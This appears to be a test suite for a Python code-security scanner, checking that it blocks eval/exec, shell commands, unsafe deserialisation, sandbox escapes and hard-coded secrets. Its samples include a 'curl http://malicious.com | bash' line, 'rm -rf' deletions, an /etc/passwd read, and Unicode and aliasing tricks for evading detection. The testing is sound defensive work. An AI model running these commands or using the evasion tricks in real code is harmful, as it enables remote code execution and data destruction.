import t from 'tap'
import type { CodeClaim } from '../types/claims.js'
import type { EngineResult } from '../types/engine.js'
import { canonicalHash, sha256Hex } from '../lib/canonical.js'
import { admissionOf } from '../lib/result.js'
import { createCodeEngine, MAX_CODE_BYTES } from '../lib/engines/code/index.js'
import { criticalTypes, issues, type Asserts } from './helpers/code.js'
import { analysePython, MAX_OPEN_ESCAPE_SCAN, openEscapeScan } from '../lib/engines/code/python.js'

const engine = createCodeEngine()

async function check (code: string, taint?: boolean, language = 'python', allow?: string[]): Promise<EngineResult> {
  const claim = { type: 'code', code, language, ...(taint === undefined ? {} : { taint }), ...(allow === undefined ? {} : { allow }) } as unknown as CodeClaim
  return await engine.verify(claim, { signal: new AbortController().signal })
}

function label (code: string): string {
  return code.replace(/\n/g, '⏎').slice(0, 70)
}

async function unsafe (t: Asserts, code: string, type: string, taint?: boolean): Promise<EngineResult> {
  const r = await check(code, taint)
  t.equal(r.status, 'VERIFIED', `${label(code)}: analysed`)
  t.equal(admissionOf(r), 'BLOCKED', `${label(code)}: not admitted`)
  t.ok(criticalTypes(r).includes(type), `${label(code)}: CRITICAL ${type} (got ${JSON.stringify(criticalTypes(r))})`)
  return r
}

async function safe (t: Asserts, code: string, taint?: boolean): Promise<EngineResult> {
  const r = await check(code, taint)
  t.equal(r.status, 'VERIFIED', `${label(code)}: analysed`)
  t.same(criticalTypes(r), [], `${label(code)}: no CRITICAL issue`)
  t.equal(admissionOf(r), 'ADMIT', `${label(code)}: admitted`)
  return r
}

t.test('result shape and proof_ref', async (t) => {
  const code = 'def area(r):\n    import math\n    return math.pi * r ** 2\n'
  const r = await check(code)
  t.equal(r.status, 'VERIFIED')
  t.equal(r.agent_message, 'The code passed security verification and is safe to use.')
  t.match(r.developer_fields, { constraint_id: 'code.code_safe', is_safe: true, is_valid: true, language: 'python', issues: [], critical_count: 0, warning_count: 0, taint_analysis: false })
  t.equal(r.proof_ref, canonicalHash({
    engine: 'qwed-middleware-code',
    language: 'python',
    code_sha256: sha256Hex(code),
    is_safe: true,
    critical_count: 0,
    warning_count: 0,
    issue_types: [],
    capabilities: [],
    blocked_capabilities: [],
    policy: { allow: [], deny: [] },
    taint_analysis: false
  }))
  const bad = await check('import os\n\nos.system("rm data.csv")  # Suspicious!\n')
  t.match(bad.developer_fields, { constraint_id: 'code.capability_process', is_safe: false, is_valid: false, blocked_capabilities: ['process'] })
  t.same(issues(bad)[0], { severity: 'CRITICAL', type: 'command_execution', description: 'os.system() runs an operating-system command', line_number: 3, capability: 'process' })
  t.equal(bad.agent_message, 'The code failed security verification and is not safe to use.')
  t.equal(admissionOf(bad), 'BLOCKED')
  for (const lang of ['py', 'Python', 'python3']) t.equal((await check('x = 1', undefined, lang)).developer_fields.language, 'python', `${lang} → python`)
})

t.test('eval / exec / compile: the builtins, not look-alikes', async (t) => {
  await unsafe(t, 'analysis_code = input("Enter analysis: ")\nexec(analysis_code)  # Direct RCE\n', 'dangerous_function')
  await unsafe(t, 'eval(user_input)', 'dangerous_function')
  await unsafe(t, 'code = compile(src, "<s>", "exec")', 'dangerous_function')
  await unsafe(t, 'e = eval\ne(user_input)\n', 'dangerous_function')
  await unsafe(t, 'results = list(map(eval, rows))', 'dangerous_function')
  await unsafe(t, 'import builtins\nbuiltins.exec(payload)', 'dangerous_function')
  await unsafe(t, 'from builtins import eval as ev\nev(x)', 'dangerous_function')
  await safe(t, 'cursor.execute("SELECT id FROM users WHERE id = %s", (user_id,))\n')
  await safe(t, 'import re\npattern = re.compile(r"[a-z]+")\nfrom re import compile\nword = compile("w+")')
  await safe(t, 'def evaluate(model, data):\n    return model.score(data)\n\nprint(evaluate(m, d))\n')
  await safe(t, 'msg = "never call eval on user input"\nprint(msg)  # eval(x) would be bad\n')
  await safe(t, 'model.eval()\nwith torch.no_grad():\n    out = model(x)')
  await safe(t, 'def eval(expr):\n    return 42\n\neval("1 + 1")', undefined)
  await safe(t, 'class Job:\n    def execute(self):\n        pass\nJob().execute()')
})

t.test('__import__, importlib and getattr with built names', async (t) => {
  await unsafe(t, 'module_name = input("Module to import: ")\nimported = __import__(module_name)\n', 'dangerous_function')
  await unsafe(t, '__import__("os").system("id")', 'command_execution')
  await unsafe(t, 'import importlib\nm = importlib.import_module("o" + "s")\nm.system("id")\n', 'dynamic_import')
  await unsafe(t, 'import importlib\nm = importlib.import_module("o" + "s")\nm.system("id")\n', 'command_execution')
  await unsafe(t, 'import importlib\nmod = importlib.import_module(name)', 'dynamic_import')
  await unsafe(t, 'import os\nf = getattr(os, "sys" + "tem")\nf("id")', 'dynamic_access')
  await unsafe(t, 'import os\nf = getattr(os, "system")\nf("id")', 'command_execution')
  await unsafe(t, 'import os\ngetattr(os, name)("id")', 'dynamic_access')
  await unsafe(t, 'fn = getattr(f, "__globals__")', 'dangerous_attribute')
  await unsafe(t, 'import sys\nsys.modules["os"].system("ls")', 'command_execution')
  await unsafe(t, 'fn = getattr(obj, "ev" + "al")', 'dynamic_access')
  const dispatch = await safe(t, 'handler = getattr(self, "on_" + event_name)')
  t.same(issues(dispatch).map((i) => i.severity), ['WARNING'], 'dispatch by a prefixed runtime name on an ordinary object is a WARNING')
  await safe(t, 'import importlib\njson = importlib.import_module("json")\nvalue = getattr(config, "timeout")')
  const plain = await safe(t, 'value = getattr(obj, attr_name, None)')
  t.equal(issues(plain)[0]?.severity, 'WARNING', 'getattr with a plain variable name is a WARNING')
})

t.test('os / subprocess / aliased imports', async (t) => {
  await unsafe(t, 'import os\nos.popen("ls")', 'command_execution')
  await unsafe(t, 'import os\nos.execvp("sh", ["sh"])', 'command_execution')
  await unsafe(t, 'import os as o\no.system(cmd)', 'command_execution')
  await unsafe(t, 'from os import system as run\nrun("ls")', 'command_execution')
  await unsafe(t, 'from os import *\nsystem("ls")', 'command_execution')
  await unsafe(t, 'import subprocess\nout = subprocess.check_output(user_cmd, shell=True)\n', 'command_injection')
  await unsafe(t, 'import subprocess as sp\nsp.Popen("ls -l", shell=True)', 'command_injection')
  await unsafe(t, 'from subprocess import call as c\nc(cmd)', 'command_injection')
  await unsafe(t, 'import subprocess\nsubprocess.run(["ls", path])', 'command_injection')
  await unsafe(t, 'import subprocess\nsubprocess.run(["curl", "http://malicious.com", "|", "bash"])', 'remote_code_execution')
  await unsafe(t, 'import subprocess\nsubprocess.getoutput("whoami")', 'command_execution')
  await unsafe(t, 'import os\nos.system("rm -rf /tmp/cache")', 'recursive_deletion')
  await unsafe(t, 'import subprocess\nsubprocess.call(["rm", "-rf", "build"])', 'recursive_deletion')
  // starting a program is the process capability whatever its argv: denied by default, a WARNING
  // when the claim allows process
  await unsafe(t, 'import subprocess\nsubprocess.run(["ls", "-l"])', 'capability_use')
  await unsafe(t, 'import subprocess\nsubprocess.check_output(["cat", "/etc/passwd"])', 'capability_use')
  const fixed = await check('import subprocess\nsubprocess.run(["git", "status"], shell=False, check=True)', undefined, 'python', ['process'])
  t.equal(admissionOf(fixed), 'ADMIT', 'git status is safe when the claim allows process')
  t.same(issues(fixed).map((i) => i.severity), ['WARNING'], 'an allowed capability is a WARNING')
  await safe(t, 'import os\ncwd = os.getcwd()\npath = os.path.join(cwd, "x")\nos.makedirs(path, exist_ok=True)')
})

t.test('dunder escapes', async (t) => {
  await unsafe(t, '().__class__.__bases__[0].__subclasses__()', 'dangerous_attribute')
  await unsafe(t, 'g = func.__globals__', 'dangerous_attribute')
  await unsafe(t, 'b = __builtins__\nb.__dict__["exec"](payload)\n', 'dangerous_attribute')
  await unsafe(t, 'b = __builtins__\nb.__dict__["exec"](payload)\n', 'dangerous_function')
  await unsafe(t, 'globals()["__builtins__"]["eval"]("1")', 'dangerous_function')
  await unsafe(t, '"".__class__.__mro__[1]', 'dangerous_attribute')
  await unsafe(t, 'fn = globals()[name]', 'dynamic_access')
  const cls = await safe(t, 'name = self.__class__.__name__\nd = obj.__dict__')
  t.ok(issues(cls).every((i) => i.severity === 'WARNING'), '__class__.__name__ is at most a WARNING')
})

t.test('deserialisation, YAML, recursive deletion', async (t) => {
  await unsafe(t, 'import pickle\ndata = input("Data: ")\nobj = pickle.loads(data)  # Deserialization RCE\n', 'insecure_deserialization')
  await unsafe(t, 'import pickle\nwith open("m.pkl", "rb") as f:\n    m = pickle.load(f)', 'insecure_deserialization')
  await unsafe(t, 'import marshal\ncode = marshal.loads(blob)', 'insecure_deserialization')
  await unsafe(t, 'import shelve\ndb = shelve.open("x")', 'insecure_deserialization')
  await unsafe(t, 'import yaml\ncfg = yaml.load(stream)', 'insecure_deserialization')
  await unsafe(t, 'import yaml\ncfg = yaml.load(stream, Loader=yaml.Loader)', 'insecure_deserialization')
  await unsafe(t, 'import yaml\ncfg = yaml.unsafe_load(stream)', 'insecure_deserialization')
  await unsafe(t, 'import shutil\nshutil.rmtree(build_dir)', 'recursive_deletion')
  await unsafe(t, 'import numpy as np\narr = np.load(path, allow_pickle=True)', 'insecure_deserialization')
  // pickle-based loaders are deserialize (torch.load unpickles unless weights_only=True)
  await unsafe(t, 'import torch\nmodel = torch.load("model.pt")', 'insecure_deserialization')
  await unsafe(t, 'import pandas as pd\ndf = pd.read_pickle("frame.pkl")', 'insecure_deserialization')
  await safe(t, 'import torch, numpy\nmodel = torch.load("model.pt", weights_only=True)\narr = numpy.load("a.npy")')
  await safe(t, 'import yaml\na = yaml.safe_load(stream)\nb = yaml.load(stream, Loader=yaml.SafeLoader)\nc = yaml.load(s, yaml.CSafeLoader)')
  const full = await safe(t, 'import yaml\ncfg = yaml.load(stream, Loader=yaml.FullLoader)')
  t.equal(issues(full)[0]?.severity, 'WARNING')
  await safe(t, 'import json\nobj = json.loads(text)\nimport os\nos.remove("/tmp/job.txt")')
  await unsafe(t, 'import os\nos.remove("report.txt")', 'capability_use')
})

t.test('expression evaluators: df.eval(x) vs model.eval()', async (t) => {
  await unsafe(t, 'import pandas as pd\nuser_formula = input("Formula: ")\ndf = pd.DataFrame({"x": [1,2,3]})\nresult = df.eval(user_formula)  # RCE via eval!\n', 'dangerous_function')
  await unsafe(t, 'import pandas as pd\npd.eval(expr)', 'dangerous_function')
  await unsafe(t, 'from sympy import sympify\nsympify(user_text)', 'dangerous_function')
  await safe(t, 'import pandas as pd\ndf = pd.DataFrame({"a": [1], "b": [2]})\ndf.eval("c = a + b", inplace=True)\nmodel.eval()')
})

t.test('hard-coded secrets', async (t) => {
  await unsafe(t, '\naws_key = "AKIA1234567890ABCDEF"\n', 'hardcoded_secret')
  await unsafe(t, 'password = "hunter2!"', 'hardcoded_secret')
  await unsafe(t, 'API_KEY = "a8f5f167f44f4964e6c998dee827110c"', 'hardcoded_secret')
  await unsafe(t, 'aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"', 'hardcoded_secret')
  await unsafe(t, 'conn = connect(host="db", password="s3cr3t-pass")', 'hardcoded_secret')
  await unsafe(t, 'settings = {"client_secret": "0a1b2c3d4e5f6a7b"}', 'hardcoded_secret')
  await unsafe(t, 'def login(user, password="admin1234"):\n    pass', 'hardcoded_secret')
  await unsafe(t, 'if password == "letmein123":\n    grant()', 'hardcoded_secret')
  await unsafe(t, 'KEY = """-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"""', 'hardcoded_secret')
  await unsafe(t, '# token = ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789\nx = 1', 'hardcoded_secret')
  await unsafe(t, 'client = OpenAI(api_key="sk-proj-abcdefghijklmnopqrstuvwxyz123456")', 'hardcoded_secret')
  const placeholder = await safe(t, 'api_key = "your-api-key-here"')
  t.equal(issues(placeholder)[0]?.severity, 'WARNING', 'a placeholder is a WARNING')
  await safe(t, 'import os\npassword = os.environ["DB_PASSWORD"]\napi_key = os.getenv("API_KEY")\ntoken_url = "https://auth.example.com/token"\npassword_prompt = "Enter password: "\nTOKEN_ENV = "GITHUB_TOKEN"\nsha = "3f786850e387550fdab836ed7e6dc881de23001b"')
})

t.test('weak crypto and weak randomness for secrets', async (t) => {
  await unsafe(t, 'import hashlib\ndef hash_password(password):\n    return hashlib.md5(password.encode()).hexdigest()', 'weak_crypto_with_password')
  await unsafe(t, 'import hashlib\npw_hash = hashlib.sha1(pw.encode()).hexdigest()', 'weak_crypto_with_password')
  await unsafe(t, 'import hashlib\nh = hashlib.new("md5", user.password.encode())', 'weak_crypto_with_password')
  await unsafe(t, 'import random\ntoken = str(random.random())\n', 'weak_random')
  await unsafe(t, 'import random, string\npassword = "".join(random.choice(string.ascii_letters) for _ in range(12))', 'weak_random')
  await unsafe(t, 'import random\ndef make_reset_code():\n    return random.randint(100000, 999999)', 'weak_random')
  const sha = await check('\nimport hashlib\n\npassword = input("Password: ")\nhashed = hashlib.sha256(password.encode()).hexdigest()\nstore_in_database(hashed)\n')
  t.equal(sha.status, 'VERIFIED', 'sha256 for a password is analysed (not a weak-hash finding)')
  t.notOk(criticalTypes(sha).includes('weak_crypto_with_password'))
  await safe(t, 'import hashlib, random\nchecksum = hashlib.md5(data).hexdigest()\nroll = random.randint(1, 6)\nrandom.shuffle(deck)')
  await safe(t, 'import secrets\ntoken = secrets.token_urlsafe(32)')
})

t.test('taint (verify_python_deep): sources through assignments into sinks', async (t) => {
  await unsafe(t, 'import os\ncmd = input("c")\nfull = "ls " + cmd\nos.system(full)', 'taint_flow', true)
  await unsafe(t, 'from flask import request\nq = request.args.get("q")\nsql = f"SELECT * FROM t WHERE name = \'{q}\'"\ncursor.execute(sql)', 'taint_flow', true)
  await unsafe(t, 'import sys\nname = sys.argv[1]\nquery = "SELECT * FROM t WHERE n = \'%s\'" % name\ncur.execute(query)', 'taint_flow', true)
  await unsafe(t, 'import os\nv = os.environ.get("X")\nq = "SELECT {}".format(v)\ndb.execute(q)', 'taint_flow', true)
  await unsafe(t, [
    'def get_user_input():',
    '    return input("Enter path: ")',
    '',
    'def sanitize(data):',
    "    # Pretends to sanitize but doesn't",
    '    return data',
    '',
    'def process_file(path):',
    '    import subprocess',
    '    subprocess.run(["ls", path])',
    '',
    'user_path = get_user_input()',
    'clean_path = sanitize(user_path)',
    'process_file(clean_path)'
  ].join('\n'), 'taint_flow', true)
  await unsafe(t, 'import requests\nurl = input()\nrequests.get(url)', 'taint_flow', true)
  await unsafe(t, 'class Runner:\n    def __init__(self):\n        self.cmd = input()\n    def run(self):\n        import subprocess\n        subprocess.run(self.cmd, shell=True)', 'taint_flow', true)
  const sanitised = await safe(t, 'n = int(input())\ncursor.execute("SELECT * FROM t WHERE id = " + str(n))', true)
  t.notOk(issues(sanitised).some((i) => i.type === 'taint_flow'), 'int() stops the flow')
  const quoted = await check('import subprocess, shlex\np = shlex.quote(input())\nsubprocess.run("ls " + p, shell=True)', true)
  t.notOk(issues(quoted).some((i) => i.type === 'taint_flow'), 'shlex.quote() stops the flow (shell=True is still reported by the pattern rules)')
  await safe(t, 'from flask import request\nq = request.args.get("q")\ncursor.execute("SELECT * FROM t WHERE name = %s", (q,))', true)
  await safe(t, 'name = input("Name: ")\nprint("Hello " + name)', true)
  const deep = await check('x = input()\neval(x)', true)
  t.equal(deep.developer_fields.taint_analysis, true)
  const off = await check('import sys\ncur.execute("SELECT " + sys.argv[1])', false)
  t.notOk(issues(off).some((i) => i.type === 'taint_flow'), 'no taint analysis unless asked')
})

t.test('unparseable, oversized and deeply nested code is BLOCKED', async (t) => {
  const syntax = await check('def f(:\n    pass\n')
  t.equal(syntax.status, 'BLOCKED')
  t.equal(syntax.developer_fields.constraint_id, 'code.parse_error')
  t.equal(syntax.developer_fields.line_number, 1)
  t.equal(admissionOf(syntax), 'BLOCKED')
  t.equal(syntax.agent_message, 'The code could not be parsed, so it cannot be verified.')
  const py2 = await check('print "hello"\nx = 1\n')
  t.equal(py2.developer_fields.constraint_id, 'code.parse_error', 'Python 2 print statement is not silently accepted')
  const exec2 = await check('exec "import os"\n')
  t.equal(exec2.developer_fields.constraint_id, 'code.parse_error', 'Python 2 exec statement is not silently accepted')
  const deepTaint = await check('def f(:', true)
  t.equal(deepTaint.developer_fields.constraint_id, 'code.parse_error', 'the deep (taint) variant fails closed too')
  const big = await check('x = 1\n'.repeat(Math.ceil((MAX_CODE_BYTES + 1) / 6)))
  t.equal(big.developer_fields.constraint_id, 'code.too_large')
  const nested = await check('x = ' + '('.repeat(5000) + '1' + ')'.repeat(5000))
  t.equal(nested.status, 'BLOCKED')
  t.equal(nested.developer_fields.constraint_id, 'code.too_deep')
  await safe(t, 'q = ' + Array.from({ length: 300 }, (_, i) => `"part${i}"`).join(' + '))
})

t.test('a 100 KB snippet verifies', async (t) => {
  const block = [
    'def summarise_{n}(rows, key="total"):',
    '    """Sum one column and return the mean."""',
    '    values = [float(r[key]) for r in rows if r.get(key) is not None]',
    '    total = sum(values)',
    '    return total / len(values) if values else 0.0',
    '',
    ''
  ].join('\n')
  let code = ''
  for (let n = 0; code.length < 100_000; n++) code += block.replace('{n}', String(n))
  // its time is reported by `npm run bench:code`, not asserted here
  const r = await check(code, true)
  t.equal(r.status, 'VERIFIED')
  t.equal(admissionOf(r), 'ADMIT')
})

// The time at n and 2n assignments is reported by `npm run bench:code`.
t.test('a name reassigned many times resolves', async (t) => {
  const code = 'def f(ctx):\n    ans = start()\n' + '    ans = ans._fix(ctx)\n'.repeat(400) + '    return ans\n'
  const r = await check(code, true)
  t.equal(r.status, 'VERIFIED')
})

// ---- security corpus findings (test/fixtures/security/parser-escapes.json): each escape below
// was admitted before; the rules now generalise over the shapes, not the strings.

t.test('identifiers are compared the way Python reads them: NFKC-folded (PEP 3131)', async (t) => {
  await unsafe(t, "ｅｖａｌ('1')", 'dangerous_function')
  await unsafe(t, "\u{1d41e}\u{1d42f}\u{1d41a}\u{1d425}('1')", 'dangerous_function') // mathematical bold eval
  await unsafe(t, "__ｉｍｐｏｒｔ__('os').system('id')", 'dangerous_function')
  await unsafe(t, "import ｏｓ\nｏｓ.system('id')", 'command_execution')
  await unsafe(t, "import os\nos.ｓｙｓｔｅｍ('id')", 'command_execution')
  await unsafe(t, 'from ｓｕｂｐｒｏｃｅｓｓ import ｒｕｎ\nｒｕｎ(cmd)', 'command_injection')
  await unsafe(t, 'ｅｘｅｃ', 'dangerous_function')
  // string contents are not folded by Python, and must not be here either
  await safe(t, "x = 'ｅｖａｌ'\nprint(x)\nname = \"𝐞𝐯𝐚𝐥\"")
  await safe(t, 'café = 1\nprint(café)\nｘ = 2')
})

t.test('code runners, native code, file imports', async (t) => {
  await unsafe(t, "import code\ncode.InteractiveInterpreter().runsource('import os')", 'dangerous_function')
  await unsafe(t, "from code import InteractiveConsole\nInteractiveConsole().push('import os')", 'dangerous_function')
  await unsafe(t, 'import code\ncode.interact()', 'dangerous_function')
  await unsafe(t, "import runpy\nrunpy.run_path('/tmp/x.py')", 'dangerous_function')
  await unsafe(t, "import runpy\nrunpy.run_module('pkg', run_name='__main__')", 'dangerous_function')
  await unsafe(t, 'import types\ntypes.FunctionType(c, {})()', 'dangerous_function')
  await unsafe(t, "import timeit\ntimeit.timeit(\"__import__('os').system('id')\")", 'dangerous_function')
  await unsafe(t, "import cProfile\ncProfile.run('main()')", 'dangerous_function')
  await unsafe(t, "import ctypes\nctypes.CDLL(None).system(b'id')", 'command_execution')
  await unsafe(t, "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').system(b'id')", 'command_execution')
  await unsafe(t, 'import ctypes\nctypes.memmove(dst, src, n)', 'command_execution')
  await unsafe(t, "import importlib.util\nspec = importlib.util.spec_from_file_location('m', path)", 'dynamic_import')
  await safe(t, 'import ctypes\nx = ctypes.c_int(5)\nprint(ctypes.sizeof(x))')
  await safe(t, 'import timeit\nprint(timeit.timeit(lambda: sum(range(10)), number=100))\nprint(timeit.default_timer())')
  await safe(t, 'code = compute()\nprint(code.upper())')
})

t.test('dangerous callables that escape into expressions count as used', async (t) => {
  await unsafe(t, "import os\n(s := os.system)('id')", 'command_execution')
  await unsafe(t, "import os\nfns = [os.system]\nfns[0]('id')", 'command_execution')
  await unsafe(t, "import os\nd = {'run': os.system}\nd['run']('id')", 'command_execution')
  await unsafe(t, "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", 'command_execution')
  await unsafe(t, "import os, functools\nfunctools.partial(os.system, 'id')()", 'command_execution')
  await unsafe(t, 'import subprocess\nlist(map(subprocess.call, cmds))', 'command_execution')
  await unsafe(t, 'import pickle\nloaders = (pickle.loads,)\nloaders[0](blob)', 'insecure_deserialization')
  await unsafe(t, "import os\nf = os.system if posix else print\nf('id')", 'command_execution')
  await unsafe(t, "import os\nos.system.__call__('id')", 'command_execution')
  await unsafe(t, "import os\nrunner = lambda: os.system\nrunner()('id')", 'command_execution')
  await unsafe(t, "import os\nclass A:\n    run = staticmethod(os.system)\nA.run('id')", 'command_execution')
  await unsafe(t, "import os\ndef g(m):\n    m.system('id')\ng(os)", 'dynamic_access')
  await unsafe(t, "import os\nmods = [os]\nmods[0].system('id')", 'dynamic_access')
  await unsafe(t, "import importlib\n[importlib.import_module('os')][0].system('id')", 'dynamic_access')
  // aliases are followed by name resolution and judged where they are called
  await unsafe(t, "import os\nrun = os.system\nrun('id')", 'command_execution')
  const fixed = await check("import subprocess\nrun = subprocess.run\nrun(['ls', '-l'])")
  t.equal(fixed.developer_fields.constraint_id, 'code.capability_process', 'a fixed command through a plain alias is still a process')
  await safe(t, "import os\nif hasattr(os, 'fork'):\n    pass\nfork = getattr(os, 'fork', None)")
  await safe(t, 'import subprocess\ndef f(p: subprocess.Popen) -> None:\n    assert isinstance(p, subprocess.Popen)')
  await safe(t, 'import os\nrun = os.getcwd\nprint(run(), os.path.join("a", "b"), os.sep)')
  await safe(t, "import shutil, math\nshutil.copy('a', 'b')\nprint(math.sqrt(2))")
  await safe(t, 'import sys\nprint(sys.version, file=sys.stderr)\nlogging.StreamHandler(sys.stdout)')
  await safe(t, 'ua = parse(header)\nprint(ua.os, ua.os.family)')
})

t.test('modules re-exported by other modules are the module itself', async (t) => {
  await unsafe(t, "import os.path as p\np.os.system('id')", 'command_execution')
  await unsafe(t, "import shutil\nshutil.os.system('id')", 'command_execution')
  await unsafe(t, "import tempfile\ntempfile._os.system('id')", 'command_execution')
  await unsafe(t, "import subprocess as sp\nr = sp.os.system\nr('x')", 'command_execution')
  await unsafe(t, "import os\nos.sys.modules['subprocess'].call(cmd, shell=True)", 'command_injection')
  await unsafe(t, "import six\nsix.moves.builtins.eval('1')", 'dangerous_function')
  await safe(t, "import os.path\nprint(os.path.join('a', 'b'))\nimport shutil\nshutil.copy('a', 'b')")
})

t.test('string prefixes and named escapes are read in linear time', async (t) => {
  await unsafe(t, "exec(rb'import os')", 'dangerous_function')
  // a named escape cannot be resolved here, so the name is unknown: a runtime name on os
  await unsafe(t, "import os\ngetattr(os, 'sys\\N{LATIN SMALL LETTER T}em')('id')", 'dynamic_access')
  // tree-sitter-python's lexer is quadratic on unterminated `\N{` escapes (60,000 of them: minutes):
  // the look-ahead they would cost is counted first and the snippet refused before it is parsed
  const hostile = "x = '" + '\\N{'.repeat(60_000) + "'"
  const r = await check(hostile)
  t.equal(admissionOf(r), 'BLOCKED', 'not admitted')
  t.equal(r.developer_fields.constraint_id, 'code.too_complex', 'refused before parsing')
  const counted = openEscapeScan(hostile)
  t.ok(counted > MAX_OPEN_ESCAPE_SCAN, 'the counted look-ahead passed the limit')
  t.ok(counted <= MAX_OPEN_ESCAPE_SCAN + hostile.length, 'and the count stopped there: the scan itself is bounded')
  t.equal(openEscapeScan("x = '\\N{BULLET}'"), 0, 'a closed escape costs nothing')
  t.equal(openEscapeScan("x = '\\N{'"), 4, 'an open one costs the rest of the snippet')
  t.ok(openEscapeScan("'" + '\\N{'.repeat(5000) + "'") > MAX_OPEN_ESCAPE_SCAN)
  await safe(t, "x = '" + '\\N{'.repeat(1000) + "'")
  // A parse that stops early (a cancelled claim, or MAX_PARSE_MS) is refused and the parser reset
  const cancelled = await analysePython('a = 1\n'.repeat(1000), { taint: false, signal: AbortSignal.abort() })
  t.match(cancelled, { ok: false, reason: 'aborted' })
  await unsafe(t, "import os\nos.system('id')", 'command_execution') // the halted parse does not leak into the next one
})
